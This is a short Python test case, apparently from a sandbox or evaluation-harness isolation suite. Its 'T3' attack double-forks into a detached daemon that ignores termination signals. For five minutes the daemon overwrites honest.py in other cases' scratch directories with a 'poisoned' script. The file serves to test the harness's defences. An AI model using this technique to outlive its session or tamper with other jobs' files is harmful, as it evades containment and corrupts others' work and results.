# threat: T3; ends: passed
# Leaves a daemon of its own session that would write into the next case's directory; it does not live to see it.
import os
import signal
import time

from attack import end

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in [signal.SIGHUP, signal.SIGTERM, signal.SIGINT]:
            signal.signal(number, signal.SIG_IGN)
        end_of_waiting = time.monotonic() + 300
        while time.monotonic() < end_of_waiting:
            for number in range(1, 130):
                try:
                    with open(f"/volumes/testing/scratch/case-{number:03}/work/honest.py", "w", encoding="utf-8") as file:
                        file.write("print('poisoned')")
                except OSError:
                    pass
        os._exit(0)
    os._exit(0)
os.wait()
end()
